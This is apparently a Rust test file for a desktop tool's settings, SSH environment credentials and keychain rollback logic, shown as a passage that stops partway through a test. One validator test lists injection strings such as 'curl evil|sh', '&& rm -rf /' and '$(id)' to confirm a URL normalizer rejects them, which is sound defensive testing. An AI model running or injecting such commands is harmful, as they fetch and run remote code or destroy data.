use std::collections::BTreeMap;
use friday::agent::detect::DetectedAgent;
use friday::agent::spawn::SpawnError;
use friday::app::agents::{
    add_agent_cmd, detect_and_persist, ensure_active, list_agents, remove_agent, set_active,
    upsert_auto_agent, AgentRow,
};
use friday::app::credentials::{cred_entry, entry, store_cred_secret, SecretChange, SERVICE};
use friday::app::env_credentials::{
    add_credential, default_credential, delete_credential, find_credential_by_username,
    list_credentials, migrate_legacy, migrated_row, set_default_credential, EnvCredentialError,
    EnvCredentialRow, Migration, MigrationEvent,
};
use friday::app::env_save::{
    bound_key_path, rollback_saved_state, save_environment, validate_credentials, CredentialInput,
    KeychainOp, RollbackStep, SaveError, SaveOutcome, SaveSnapshot,
};
use friday::app::environments::{
    add_environment, add_environment_cmd, delete_environment, find_by_name, get_environment,
    is_known_auth_type, list_environments, port_or_default, secret_stored, secret_to_keep,
    should_clear_secret_on_update, test_connection, update_environment, update_environment_cmd,
    EnvironmentError, EnvironmentRow,
};
use friday::app::events::AppEvent;
use friday::app::keychain_run::{execute_keychain_ops, KeychainEvent, KeychainRun, KeychainStep};
use friday::app::lifecycle::{after_spawn, send_message, SendEnd, SessionLookup};
use friday::app::messages::{
    delete_session, get_session_messages, insert_message, insert_text_part, insert_tool_part,
    next_message_seq, update_message_status, OwnedRow, StoredMessage, StoredPart,
};
use friday::app::migration::environments_to_migrate;
use friday::app::mirroring::{credential_stored, mirror_credential};
use friday::app::service_repos::{
    delete_service_repo, get_service_repo, list_service_repos, upsert_service_repo, ServiceRepoRow,
};
use friday::app::session::{
    archive_session, close_session, create_session, get_agent_session_id, get_session, is_listed,
    list_sessions, truncate_title, unarchive_session, update_agent_session_id, SessionStatus,
    StoredSession,
};
use friday::app::settings::{
    artifactory_base_url, auto_approve_tools, get_setting, normalize_base_url,
    set_artifactory_base_url_cmd, set_auto_approve_tools_cmd, set_setting, Setting,
    DEFAULT_ARTIFACTORY_BASE_URL, KEY_ARTIFACTORY_BASE_URL, KEY_AUTO_APPROVE_TOOLS,
};

#[test]
fn test_normalize_base_url_trims_and_strips_trailing_slash() {
    assert_eq!(normalize_base_url("  https://example.com/artifactory/  ").unwrap(), "https://example.com/artifactory");
    assert_eq!(normalize_base_url("https://example.com/a///").unwrap(), "https://example.com/a");
}

#[test]
fn test_normalize_base_url_rejects_empty() {
    assert!(normalize_base_url("   ").is_err());
    assert!(normalize_base_url("").is_err());
}

#[test]
fn test_normalize_base_url_rejects_non_http() {
    assert!(normalize_base_url("ftp://example.com/x").is_err());
    assert!(normalize_base_url("example.com/x").is_err());
}

#[test]
fn test_normalize_base_url_rejects_shell_metacharacters_and_spaces() {
    assert!(normalize_base_url("https://x; curl evil|sh").is_err());
    assert!(normalize_base_url("https://x && rm -rf /").is_err());
    assert!(normalize_base_url("https://example.com/a b").is_err());
    assert!(normalize_base_url("https://example.com/a$(id)").is_err());
    assert!(normalize_base_url("https://example.com/a`id`").is_err());
    assert!(normalize_base_url("https://example.com/a'b'").is_err());
    assert!(normalize_base_url("https://example.com/a\"b").is_err());
}

#[test]
fn test_normalize_base_url_accepts_typical_artifactory_urls() {
    assert!(normalize_base_url("https://cmc-szver-artifactory.cmc.tools.huawei.com/artifactory/cmc-software-release").is_ok());
    assert!(normalize_base_url("http://intranet-mirror.local:8081/artifactory/libs-release").is_ok());
    assert!(normalize_base_url("https://example.com/path_with~tilde+and.dots/").is_ok());
}

#[test]
fn test_get_setting_missing_returns_none() {
    assert!(get_setting(&vec![], "nope").is_none());
}

#[test]
fn test_set_then_get_roundtrip() {
    let mut rows = Vec::new();
    set_setting(&mut rows, "k1", "v1", "t");
    assert_eq!(get_setting(&rows, "k1").as_deref(), Some("v1"));
}

#[test]
fn test_set_setting_upsert_overwrites() {
    let mut rows: Vec<Setting> = Vec::new();
    set_setting(&mut rows, "k0", "v0", "t0");
    set_setting(&mut rows, "k1", "v1", "t1");
    set_setting(&mut rows, "k1", "v2", "t2");
    assert_eq!(get_setting(&rows, "k1").as_deref(), Some("v2"));
    assert_eq!(get_setting(&rows, "k0").as_deref(), Some("v0"));
    assert_eq!(rows.len(), 2);
    assert_eq!((rows[0].updated_at.as_str(), rows[1].updated_at.as_str()), ("t0", "t2"));
}

#[test]
fn test_artifactory_base_url_defaults_when_unset() {
    assert_eq!(artifactory_base_url(&vec![]), DEFAULT_ARTIFACTORY_BASE_URL);
}

#[test]
fn test_artifactory_base_url_returns_custom() {
    let mut rows = Vec::new();
    set_setting(&mut rows, KEY_ARTIFACTORY_BASE_URL, "https://example.com/artifactory", "t");
    assert_eq!(artifactory_base_url(&rows), "https://example.com/artifactory");
}

#[test]
fn test_artifactory_base_url_roundtrip_normalized() {
    let mut rows = Vec::new();
    set_setting(&mut rows, KEY_ARTIFACTORY_BASE_URL, "https://example.com/artifactory/", "t");
    assert_eq!(artifactory_base_url(&rows), "https://example.com/artifactory/");
}

#[test]
fn the_base_url_is_set_in_its_normal_form() {
    let mut rows = Vec::new();
    set_artifactory_base_url_cmd(&mut rows, " https://example.com/a// ", "t").unwrap();
    assert_eq!(artifactory_base_url(&rows), "https://example.com/a");
    let why = set_artifactory_base_url_cmd(&mut rows, "ftp://example.com", "t").unwrap_err();
    assert_eq!(why, "base url must start with http:// or https://");
    assert_eq!(artifactory_base_url(&rows), "https://example.com/a");
}

#[test]
fn test_auto_approve_tools_defaults_false_when_unset() {
    assert!(!auto_approve_tools(&Ok(vec![])));
    assert!(!auto_approve_tools(&Err("x".to_string())));
}

#[test]
fn test_auto_approve_tools_roundtrip() {
    let mut rows = Vec::new();
    set_setting(&mut rows, KEY_AUTO_APPROVE_TOOLS, "true", "t");
    let mut rows = Ok(rows);
    assert!(auto_approve_tools(&rows));
    set_setting(rows.as_mut().unwrap(), KEY_AUTO_APPROVE_TOOLS, "false", "t");
    assert!(!auto_approve_tools(&rows));
    for on in [true, false] {
        set_auto_approve_tools_cmd(rows.as_mut().unwrap(), on, "t");
        assert_eq!(auto_approve_tools(&rows), on);
    }
}

#[test]
fn test_auto_approve_tools_invalid_value_falls_back_false() {
    let mut rows = Vec::new();
    set_setting(&mut rows, KEY_AUTO_APPROVE_TOOLS, "yes", "t");
    assert!(!auto_approve_tools(&Ok(rows)));
}

#[test]
fn secrets_have_names_of_their_own() {
    assert_eq!(SERVICE, "friday");
    assert_ne!(entry("e"), cred_entry("e", "c"));
    assert_ne!(cred_entry("e", "c"), cred_entry("e", "d"));
    assert!(matches!(store_cred_secret("pw"), SecretChange::Keep(s) if s == "pw"));
    assert!(matches!(store_cred_secret(""), SecretChange::Remove));
}

fn env_1(user: &str) -> EnvironmentRow {
    EnvironmentRow {
        id: "env-1".to_string(),
        name: "e".to_string(),
        host: "10.0.0.1".to_string(),
        port: 22,
        user: user.to_string(),
        auth_type: "password".to_string(),
        private_key_path: None,
        created_at: "2026-01-01T00:00:00Z".to_string(),
    }
}

fn add(table: &mut Vec<EnvCredentialRow>, user: &str, default: bool) -> EnvCredentialRow {
    add_credential(table, "env-1", user, "password", None, None, default, "t").unwrap().row
}

#[test]
fn test_add_list_and_default() {
    let mut table = Vec::new();
    let first = add(&mut table, "opc", true);
    assert!(first.is_default);
    let second = add(&mut table, "svcapp", false);
    assert!(!second.is_default);
    let order = list_credentials(&table);
    assert_eq!(order.len(), 2);
    assert!(table[order[0]].is_default);
    assert_eq!(default_credential(&table).unwrap().username, "opc");
}

#[test]
fn test_add_duplicate_username_rejected() {
    let mut table = Vec::new();
    add(&mut table, "opc", true);
    let err = add_credential(&mut table, "env-1", "opc", "password", None, None, false, "t").unwrap_err();
    assert!(matches!(err, EnvCredentialError::Validation(_)));
    assert_eq!(table.len(), 1);
}

#[test]
fn test_find_by_username() {
    let mut table = Vec::new();
    add(&mut table, "svcapp", false);
    let found = find_credential_by_username(&table, "svcapp");
    assert!(found.is_some());
    assert_eq!(found.unwrap().username, "svcapp");
    assert!(find_credential_by_username(&table, "nobody").is_none());
}

#[test]
fn test_delete_default_rejected() {
    let mut table = Vec::new();
    let cred = add(&mut table, "opc", true);
    let err = delete_credential(&mut table, &cred.id).unwrap_err();
    assert!(matches!(err, EnvCredentialError::Validation(_)));
    let err = delete_credential(&mut table, "nope").unwrap_err();
    assert!(matches!(err, EnvCredentialError::NotFound(_)));
}

#[test]
fn test_delete_non_default_ok() {
    let mut table = Vec::new();
    add(&mut table, "opc", true);
    let extra = add(&mut table, "svcapp", false);
    delete_credential(&mut table, &extra.id).unwrap();
    assert_eq!(list_credentials(&table).len(), 1);
}

#[test]
fn test_set_default_syncs_environments_user() {
    let mut envs = vec![env_1("opc"), prod(&mut Vec::new())];
    let mut table = Vec::new();
    add(&mut table, "opc", true);
    let svc = add_credential(
        &mut table, "env-1", "svcapp", "private_key", Some("~/.ssh/svc"), None, false, "t",
    )
    .unwrap();
    assert!(!svc.mirror);
    let row = set_default_credential(&mut table, &svc.row.id).unwrap();
    mirror_credential(&mut envs, "env-1", &row);
    assert_eq!(default_credential(&table).unwrap().username, "svcapp");
    let env = get_environment(&envs, "env-1").unwrap();
    assert_eq!(env.user, "svcapp");
    assert_eq!(env.auth_type, "private_key");
    assert_eq!(env.private_key_path.as_deref(), Some("~/.ssh/svc"));
    assert_eq!(envs[1].user, "root");
}

#[test]
fn test_set_default_returns_fresh_row() {
    let mut table = Vec::new();
    add(&mut table, "opc", true);
    let svc = add(&mut table, "svcapp", false);
    let updated = set_default_credential(&mut table, &svc.id).unwrap();
    assert!(updated.is_default, "returned row must reflect the new default state");
    assert_eq!(updated.username, "svcapp");
    assert!(matches!(set_default_credential(&mut table, "nope"), Err(EnvCredentialError::NotFound(_))));
}

#[test]
fn test_add_default_credential_mirrors_auth_columns() {
    let mut envs = vec![env_1("opc")];
    let mut table = Vec::new();
    add(&mut table, "opc", true);
    let added = add_credential(
        &mut table, "env-1", "svcapp", "private_key", Some("~/.ssh/svc"), None, true, "t",
    )
    .unwrap();
    assert!(added.mirror);
    assert_eq!(added.secret, None);
    credential_stored(&mut table, &mut envs, &added, &Ok(())).unwrap();
    let env = get_environment(&envs, "env-1").unwrap();
    assert_eq!(env.auth_type, "private_key");
    assert_eq!(env.private_key_path.as_deref(), Some("~/.ssh/svc"));
    let defaults: Vec<&EnvCredentialRow> = table.iter().filter(|c| c.is_default).collect();
    assert_eq!(defaults.len(), 1);
    assert_eq!(defaults[0].username, "svcapp");
}

#[test]
fn a_credential_without_its_secret_is_taken_back() {
    let mut envs = vec![env_1("opc")];
    let mut table = Vec::new();
    add(&mut table, "opc", true);
    let added = add_credential(&mut table, "env-1", "deploy", "password", None, Some("pw"), false, "t").unwrap();
    assert_eq!(added.secret.as_deref(), Some("pw"));
    assert!(!added.mirror);
    let end = credential_stored(&mut table, &mut envs, &added, &Err("locked".to_string()));
    assert!(matches!(end, Err(EnvCredentialError::Keychain(why)) if why == "locked"));
    assert_eq!(table.len(), 1);
    assert_eq!(table[0].username, "opc");
    assert_eq!(envs[0].user, "opc");
    let again = add_credential(&mut table, "env-1", "deploy", "password", None, Some("pw"), false, "t").unwrap();
    let row = credential_stored(&mut table, &mut envs, &again, &Ok(())).unwrap();
    assert_eq!(row.username, "deploy");
    assert_eq!((table.len(), envs[0].user.as_str()), (2, "opc"));
}

#[test]
fn a_former_secret_is_moved_before_it_is_deleted() {
    let m = migrate_legacy(Migration::ReadSecret, MigrationEvent::Secret(Some("pw".to_string())));
    assert!(matches!(m, Migration::MoveSecret { .. }));
    let m = migrate_legacy(m, MigrationEvent::Succeeded);
    assert!(matches!(m, Migration::InsertRow { had_secret: true }));
    let m = migrate_legacy(m, MigrationEvent::Succeeded);
    assert!(matches!(m, Migration::DeleteFormer));
    assert!(matches!(migrate_legacy(m, MigrationEvent::Succeeded), Migration::Done));
    let row = migrated_row("c1", "env-1", "opc", "password", None, "t");
    assert!(row.is_default);
    assert_eq!((row.id.as_str(), row.username.as_str()), ("c1", "opc"));
}

fn cred_with_id(id: Option<String>, username: &str, is_default: bool) -> CredentialInput {
    CredentialInput {
        id,
        username: username.to_string(),
        auth_type: "password".to_string(),
        private_key_path: None,
        secret: None,
        is_default,
    }
}

fn cred(username: &str, is_default: bool) -> CredentialInput {
    cred_with_id(None, username, is_default)
}

fn validate_one(input: CredentialInput) -> Result<(), SaveError> {
    validate_credentials(&[input])
}

#[test]
fn test_validate_rejects_empty_and_whitespace_username() {
    let mut input = cred("opc", true);
    input.username = String::new();
    assert!(matches!(validate_one(input), Err(SaveError::Validation(_))));

    let mut input = cred("opc", true);
    input.username = "   \t ".to_string();
    assert!(matches!(validate_one(input), Err(SaveError::Validation(_))));
}

#[test]
fn test_validate_rejects_invalid_auth_type() {
    let mut input = cred("opc", true);
    input.auth_type = "kerberos".to_string();
    assert!(matches!(validate_one(input), Err(SaveError::Validation(_))));
}

#[test]
fn test_validate_rejects_private_key_without_path() {
    let mut input = cred("opc", true);
    input.auth_type = "private_key".to_string();
    input.private_key_path = None;
    assert!(matches!(validate_one(input), Err(SaveError::Validation(_))));

    let mut input = cred("opc", true);
    input.auth_type = "private_key".to_string();
    input.private_key_path = Some("   ".to_string());
    assert!(matches!(validate_one(input), Err(SaveError::Validation(_))));
}

fn nothing() -> SaveSnapshot {
    SaveSnapshot { name_taken: false, environment_exists: false, existing: vec![] }
}

fn row(id: &str, user: &str, default: bool) -> EnvCredentialRow {
    EnvCredentialRow {
        id: id.to_string(),
        environment_id: "env-1".to_string(),
        username: user.to_string(),
        auth_type: "password".to_string(),
        private_key_path: None,
        is_default: default,
        created_at: "t".to_string(),
    }
}

/// The tables of environments and credentials.
struct Tables {
    environments: Vec<EnvironmentRow>,
    credentials: Vec<EnvCredentialRow>,
}

impl Tables {
    fn new() -> Self {
        Tables { environments: Vec::new(), credentials: Vec::new() }
    }

    fn credentials_of(&self, env_id: &str) -> Vec<EnvCredentialRow> {
        let rows: Vec<EnvCredentialRow> =
            self.credentials.iter().filter(|c| c.environment_id == env_id).cloned().collect();
        list_credentials(&rows).into_iter().map(|i| rows[i].clone()).collect()
    }

    /// Saves an environment: plans it over what is there, and carries the plan out.
    fn save(
        &mut self,
        env_id: Option<&str>,
        name: &str,
        host: &str,
        port: u16,
        creds: Vec<CredentialInput>,
    ) -> Result<SaveOutcome, SaveError> {
        let before = SaveSnapshot {
            name_taken: self.environments.iter().any(|e| e.name == name && Some(e.id.as_str()) != env_id),
            environment_exists: self.environments.iter().any(|e| Some(e.id.as_str()) == env_id),
            existing: env_id.map(|id| self.credentials_of(id)).unwrap_or_default(),
        };
        let plan = save_environment(env_id, name, host, port, &creds, &before)?;
        let e = plan.environment;
        assert_eq!(plan.is_new, env_id.is_none());
        self.environments.retain(|old| old.id != e.id);
        self.environments.push(EnvironmentRow {
            id: e.id.clone(),
            name: e.name,
            host: e.host,
            port: e.port as i64,
            user: e.user,
            auth_type: e.auth_type,
            private_key_path: e.private_key_path,
            created_at: "t".to_string(),
        });
        self.credentials.retain(|c| !plan.deletes.contains(&c.id));
        for w in plan.writes {
            assert_eq!(w.is_new, !self.credentials.iter().any(|c| c.id == w.id));
            let row = EnvCredentialRow {
                id: w.id,
                environment_id: e.id.clone(),
                username: w.username,
                auth_type: w.auth_type,
                private_key_path: w.private_key_path,
                is_default: w.is_default,
                created_at: "t".to_string(),
            };
            match self.credentials.iter().position(|c| c.id == row.id) {
                Some(i) => self.credentials[i] = row,
                None => self.credentials.push(row),
            }
        }
        Ok(SaveOutcome {
            environment: get_environment(&self.environments, &e.id).unwrap(),
            credentials: self.credentials_of(&e.id),
        })
    }

    fn seed_env_with_creds(&mut self) -> String {
        let creds = vec![cred("opc", true), cred("svcapp", false)];
        self.save(None, "prod", "10.0.0.1", 22, creds).unwrap().environment.id
    }

    fn cred_of(&self, env_id: &str, user: &str) -> EnvCredentialRow {
        let rows = self.credentials_of(env_id);
        find_credential_by_username(&rows, user).unwrap().clone()
    }
}

#[test]
fn test_save_new_environment_with_multiple_credentials() {
    let mut tables = Tables::new();
    let outcome =
        tables.save(None, "prod", "10.0.0.1", 22, vec![cred("opc", true), cred("svcapp", false)]).unwrap();
    assert_eq!(outcome.environment.name, "prod");
    assert_eq!(outcome.credentials.len(), 2);
    let def = outcome.credentials.iter().find(|c| c.is_default).unwrap();
    assert_eq!(def.username, "opc");
    assert_eq!(outcome.environment.user, "opc");
    assert_eq!(outcome.environment.auth_type, "password");
}

#[test]
fn test_save_validates_duplicate_username() {
    let creds = vec![cred("opc", true), cred("opc", false)];
    let err = save_environment(None, "prod", "10.0.0.1", 22, &creds, &nothing()).unwrap_err();
    assert!(matches!(err, SaveError::Validation(_)));
}

#[test]
fn test_edit_with_unknown_credential_id_rejected() {
    let mut tables = Tables::new();
    let outcome = tables.save(None, "prod", "10.0.0.1", 22, vec![cred("opc", true)]).unwrap();
    let ghost = vec![cred_with_id(Some("no-such-cred-id".to_string()), "ghost", true)];
    let err = tables.save(Some(&outcome.environment.id), "prod", "10.0.0.1", 22, ghost).unwrap_err();
    assert!(matches!(err, SaveError::Validation(_)));
    assert_eq!(tables.credentials_of(&outcome.environment.id).len(), 1);
}

#[test]
fn test_save_validates_zero_and_multi_default() {
    let err = save_environment(None, "prod", "10.0.0.1", 22, &vec![], &nothing()).unwrap_err();
    assert!(matches!(err, SaveError::Validation(_)));
    let creds = vec![cred("a", true), cred("b", true)];
    let err = save_environment(None, "prod", "10.0.0.1", 22, &creds, &nothing()).unwrap_err();
    assert!(matches!(err, SaveError::Validation(_)));
}

#[test]
fn test_edit_diff_add_update_delete() {
    let mut tables = Tables::new();
    let env_id = tables.seed_env_with_creds();
    let opc = tables.cred_of(&env_id, "opc");
    let creds = vec![by_key(Some(opc.id.clone()), "~/.ssh/opc"), cred("deploy", false)];
    let outcome = tables.save(Some(&env_id), "prod", "10.0.0.2", 2222, creds).unwrap();

    assert_eq!(outcome.environment.host, "10.0.0.2");
    assert_eq!(outcome.environment.port, 2222);
    assert_eq!(outcome.environment.user, "opc");
    assert_eq!(outcome.environment.auth_type, "private_key");
    let names: Vec<&str> = outcome.credentials.iter().map(|c| c.username.as_str()).collect();
    assert_eq!(names, vec!["opc", "deploy"]);
    assert_eq!(outcome.credentials[0].id, opc.id);
    assert!(find_credential_by_username(&tables.credentials_of(&env_id), "svcapp").is_none());
}

#[test]
fn test_edit_switch_default_flips_flag_and_mirrors() {
    let mut tables = Tables::new();
    let env_id = tables.seed_env_with_creds();
    let svcapp = tables.cred_of(&env_id, "svcapp");
    let opc = tables.cred_of(&env_id, "opc");
    let creds = vec![
        cred_with_id(Some(svcapp.id.clone()), "svcapp", true),
        cred_with_id(Some(opc.id.clone()), "opc", false),
    ];
    let outcome = tables.save(Some(&env_id), "prod", "10.0.0.1", 22, creds).unwrap();
    assert_eq!(outcome.environment.user, "svcapp");
    let defs: Vec<&EnvCredentialRow> = outcome.credentials.iter().filter(|c| c.is_default).collect();
    assert_eq!(defs.len(), 1);
    assert_eq!(defs[0].username, "svcapp");
}

#[test]
fn test_edit_rename_duplicate_name_rejected() {
    let mut tables = Tables::new();
    tables.seed_env_with_creds();
    let b = tables.save(None, "staging", "10.0.0.9", 22, vec![cred("opc", true)]).unwrap();
    let id = b.environment.id;
    let err = tables.save(Some(&id), "prod", "10.0.0.9", 22, vec![cred("opc", true)]).unwrap_err();
    assert!(matches!(err, SaveError::Validation(_)));
    let opc_id = tables.cred_of(&id, "opc").id;
    let creds = vec![cred_with_id(Some(opc_id.clone()), "opc", true)];
    let saved = tables.save(Some(&id), "staging", "10.0.0.9", 22, creds).unwrap();
    assert!(saved.credentials.iter().any(|c| c.id == opc_id));
}

#[test]
fn an_environment_that_is_gone_is_not_edited() {
    let err = Tables::new().save(Some("env-1"), "prod", "h", 22, vec![cred("opc", true)]).unwrap_err();
    assert!(matches!(err, SaveError::NotFound(_)));
}

fn by_key(id: Option<String>, path: &str) -> CredentialInput {
    CredentialInput {
        id,
        username: "opc".to_string(),
        auth_type: "private_key".to_string(),
        private_key_path: Some(path.to_string()),
        secret: None,
        is_default: true,
    }
}

#[test]
fn test_edit_auth_switch_without_secret_updates_row() {
    let mut tables = Tables::new();
    let env_id = tables.seed_env_with_creds();
    let opc = tables.cred_of(&env_id, "opc");
    let creds = vec![by_key(Some(opc.id.clone()), "~/.ssh/opc")];
    let outcome = tables.save(Some(&env_id), "prod", "10.0.0.1", 22, creds).unwrap();
    let saved = outcome.credentials.iter().find(|c| c.id == opc.id).unwrap();
    assert_eq!(saved.auth_type, "private_key");
    assert_eq!(saved.private_key_path.as_deref(), Some("~/.ssh/opc"));
}

#[test]
fn a_secret_goes_with_the_way_to_authenticate() {
    let had = |auth_type: &str| {
        let mut old = row("c1", "opc", true);
        old.auth_type = auth_type.to_string();
        old.private_key_path = bound_key_path(auth_type, Some("~/.ssh/old")).map(|p| p.to_string());
        SaveSnapshot { name_taken: false, environment_exists: true, existing: vec![old] }
    };
    let creds = vec![by_key(Some("c1".to_string()), "~/.ssh/new")];
    let plan = save_environment(Some("env-1"), "prod", "h", 22, &creds, &had("password")).unwrap();
    assert!(plan.keychain.iter().any(|op| matches!(op, KeychainOp::Delete { cred_id } if cred_id == "c1")));
    let plan = save_environment(Some("env-1"), "prod", "h", 22, &creds, &had("private_key")).unwrap();
    assert!(plan.keychain.is_empty());
    assert_eq!(bound_key_path("password", Some("x")), None);
    assert_eq!(bound_key_path("private_key", Some("x")), Some("x"));
}

#[test]
fn test_edit_private_key_path_change_keeps_secret_semantics() {
    let mut tables = Tables::new();
    let outcome = tables.save(None, "prod", "10.0.0.1", 22, vec![by_key(None, "~/.ssh/old")]).unwrap();
    let env_id = outcome.environment.id;
    let opc = default_credential(&tables.credentials_of(&env_id)).unwrap().clone();
    let creds = vec![by_key(Some(opc.id.clone()), "~/.ssh/new")];
    let saved = tables.save(Some(&env_id), "prod", "10.0.0.1", 22, creds).unwrap();
    let row = saved.credentials.iter().find(|c| c.id == opc.id).unwrap();
    assert_eq!(row.private_key_path.as_deref(), Some("~/.ssh/new"));
}

#[test]
fn secrets_that_cannot_be_kept_take_the_rows_back() {
    let mut with_secret = cred("opc", true);
    with_secret.secret = Some("pw".to_string());
    let plan = save_environment(None, "prod", "h", 22, &vec![with_secret], &nothing()).unwrap();
    assert_eq!(plan.keychain.len(), 1);
    let mut run = KeychainRun::new(&plan.keychain, plan.is_new, &vec![]);
    let step = execute_keychain_ops(&mut run, KeychainEvent::Started);
    assert!(matches!(step, KeychainStep::Run(KeychainOp::Write { secret, .. }) if secret == "pw"));
    match execute_keychain_ops(&mut run, KeychainEvent::Failed("locked".to_string())) {
        KeychainStep::RollBack { undo, error, steps } => {
            assert!(undo.is_empty());
            assert!(matches!(error, SaveError::Keychain(_)));
            assert!(!steps.is_empty());
        }
        other => panic!("expected to roll back, got {other:?}"),
    }
    assert!(matches!(execute_keychain_ops(&mut run, KeychainEvent::Changed), KeychainStep::Finished));
    let old = vec![row("c1", "opc", true)];
    let steps = rollback_saved_state(false, &old);
    assert!(steps.iter().any(|s| matches!(s, RollbackStep::InsertCredential(r) if r.id == "c1")));
    assert!(rollback_saved_state(true, &vec![])
        .iter()
        .any(|s| matches!(s, RollbackStep::DeleteEnvironment)));
}

fn write(cred_id: &str, secret: &str) -> KeychainOp {
    KeychainOp::Write { cred_id: cred_id.to_string(), secret: secret.to_string() }
}

/// Carries the changes out on a key chain that refuses to store one secret, and tells
/// which changes were asked for and how it ended.
fn carry_out(
    chain: &mut BTreeMap<String, String>,
    ops: &Vec<KeychainOp>,
    existing: &Vec<EnvCredentialRow>,
    refused: &str,
) -> (Vec<String>, Result<(), SaveError>) {
    let mut run = KeychainRun::new(ops, false, existing);
    let mut event = KeychainEvent::Started;
    let mut asked = Vec::new();
    loop {
        event = match execute_keychain_ops(&mut run, event) {
            KeychainStep::Read { cred_id } => KeychainEvent::Former(chain.get(&cred_id).cloned()),
            KeychainStep::Run(KeychainOp::Write { cred_id, secret }) => {
                asked.push(format!("write {cred_id}"));
                if cred_id == refused {
                    KeychainEvent::Failed("locked".to_string())
                } else {
                    chain.insert(cred_id, secret);
                    KeychainEvent::Changed
                }
            }
            KeychainStep::Run(KeychainOp::Delete { cred_id }) => {
                asked.push(format!("delete {cred_id}"));
                chain.remove(&cred_id);
                KeychainEvent::Changed
            }
            KeychainStep::Finished => return (asked, Ok(())),
            KeychainStep::RollBack { undo, error, .. } => {
                for u in undo {
                    match u.secret {
                        Some(s) => chain.insert(u.cred_id, s),
                        None => chain.remove(&u.cred_id),
                    };
                }
                return (asked, Err(error));
            }
        };
    }
}

#[test]
fn secrets_that_were_there_stay_where_a_write_fails() {
    let existing = vec![row("c1", "a", true), row("c3", "c", false)];
    let held: BTreeMap<String, String> =
        [("c1", "old"), ("c3", "gone")].map(|(k, v)| (k.to_string(), v.to_string())).into();
    let ops = vec![KeychainOp::Delete { cred_id: "c3".to_string() }, write("c1", "new"), write("c2", "s")];

    let mut chain = held.clone();
    let (asked, end) = carry_out(&mut chain, &ops, &existing, "c2");
    assert!(matches!(end, Err(SaveError::Keychain(_))));
    assert_eq!(asked, ["write c1", "write c2"]);
    assert_eq!(chain, held);

    let (asked, end) = carry_out(&mut chain, &ops, &existing, "none");
    assert!(end.is_ok());
    assert_eq!(asked, ["write c1", "write c2", "delete c3"]);
    assert_eq!(chain.get("c1").map(|s| s.as_str()), Some("new"));
    assert!(chain.contains_key("c2") && !chain.contains_key("c3"));
}

#[test]
fn only_environments_without_a_credential_are_migrated() {
    let mut envs = Vec::new();
    let a = prod(&mut envs);
    let b = add_environment(&mut envs, "b", "h", 22, "u", "password", None, None, "t");
    let mut table = vec![migrated_row("c1", &a.id, "root", "password", None, "t")];
    assert_eq!(environments_to_migrate(&envs, &table), vec![1]);
    table.push(migrated_row("c2", &b.id, "u", "password", None, "t"));
    assert!(environments_to_migrate(&envs, &table).is_empty());
}

fn prod(rows: &mut Vec<EnvironmentRow>) -> EnvironmentRow {
    let added = add_environment(rows, "prod", "10.0.0.1", 22, "root", "password", None, None, "t");
    assert_eq!(added.secret, None);
    secret_stored(rows, &added.id, &Ok(())).unwrap()
}

#[test]
fn test_add_and_list_environment() {
    let mut rows = Vec::new();
    let env = prod(&mut rows);
    assert_eq!(env.name, "prod");
    assert_eq!(env.host, "10.0.0.1");
    assert_eq!(env.auth_type, "password");
    assert_eq!(list_environments(&rows).len(), 1);

    add_environment(&mut rows, "old", "h", 22, "u", "password", None, None, "a");
    let names: Vec<String> = list_environments(&rows).into_iter().map(|e| e.name).collect();
    assert_eq!(names, ["old", "prod"]);
}

#[test]
fn a_new_environment_is_checked() {
    let mut rows = Vec::new();
    let new = add_environment_cmd(&mut rows, " prod ", " h ", None, "opc ", "password", None, Some("pw"), "t").unwrap();
    assert_eq!(new.secret.as_deref(), Some("pw"));
    assert_eq!(new.id.len(), 36);
    let e = get_environment(&rows, &new.id).unwrap();
    assert_eq!((e.name.as_str(), e.host.as_str(), e.user.as_str(), e.port), ("prod", "h", "opc", 22));
    let taken = add_environment_cmd(&mut rows, "prod ", "h", None, "opc", "password", None, None, "t");
    assert_eq!(taken.unwrap_err(), "同名环境已存在");
    let way = add_environment_cmd(&mut rows, "x", "h", None, "opc", "kerberos", None, None, "t");
    assert_eq!(way.unwrap_err(), "auth_type 必须是 private_key 或 password");
    let blank = add_environment_cmd(&mut rows, "x", " ", None, "opc", "kerberos", None, None, "t");
    assert_eq!(blank.unwrap_err(), "name/host/user 不能为空");
    assert_eq!(rows.len(), 1);
    assert!(is_known_auth_type("private_key") && !is_known_auth_type("x"));
    assert_eq!(port_or_default(Some(2222)), 2222);
    assert_eq!(secret_to_keep(Some("")), None);
}

#[test]
fn a_secret_that_is_refused_takes_its_environment_along() {
    let mut rows = Vec::new();
    prod(&mut rows);
    let new = add_environment(&mut rows, "b", "h", 22, "u", "password", None, Some("pw"), "t");
    assert_eq!(rows.len(), 2);
    match secret_stored(&mut rows, &new.id, &Err("locked".to_string())) {
        Err(EnvironmentError::Keychain(why)) => assert_eq!(why, "locked"),
        other => panic!("expected a refusal, got {other:?}"),
    }
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].name, "prod");
    assert!(matches!(secret_stored(&mut rows, &new.id, &Ok(())), Err(EnvironmentError::NotFound(_))));
}

#[test]
fn test_find_by_name() {
    let mut rows = Vec::new();
    prod(&mut rows);

    let found = find_by_name(&rows, "prod");
    assert!(found.is_some());
    assert_eq!(found.unwrap().host, "10.0.0.1");

    let missing = find_by_name(&rows, "staging");
    assert!(missing.is_none());
}

#[test]
fn test_update_environment() {
    let mut rows = Vec::new();
    let env = prod(&mut rows);

    update_environment(&mut rows, &env.id, "prod", "10.0.0.2", 2222, "opc", "private_key", Some("~/.ssh/id_ed25519"), None)
        .unwrap();
    let updated = get_environment(&rows, &env.id).unwrap();
    assert_eq!(updated.host, "10.0.0.2");
    assert_eq!(updated.port, 2222);
    assert_eq!(updated.auth_type, "private_key");
    assert_eq!(updated.created_at, "t");

    let secret =
        update_environment_cmd(&mut rows, &env.id, " new ", "h", None, "u", "password", None, Some("pw")).unwrap();
    assert_eq!(secret.as_deref(), Some("pw"));
    let updated = get_environment(&rows, &env.id).unwrap();
    assert_eq!((updated.name.as_str(), updated.port), ("new", 22));
}

#[test]
fn test_update_nonexistent_returns_error() {
    let mut rows = Vec::new();
    let result = update_environment(&mut rows, "no-such", "n", "h", 22, "u", "password", None, None);
    assert!(matches!(result, Err(EnvironmentError::NotFound(id)) if id == "no-such"));
    assert!(should_clear_secret_on_update("password", "private_key", false));
    assert!(!should_clear_secret_on_update("password", "password", false));
    assert!(!should_clear_secret_on_update("password", "private_key", true));
}

#[test]
fn test_delete_environment() {
    let mut rows = Vec::new();
    let env = prod(&mut rows);
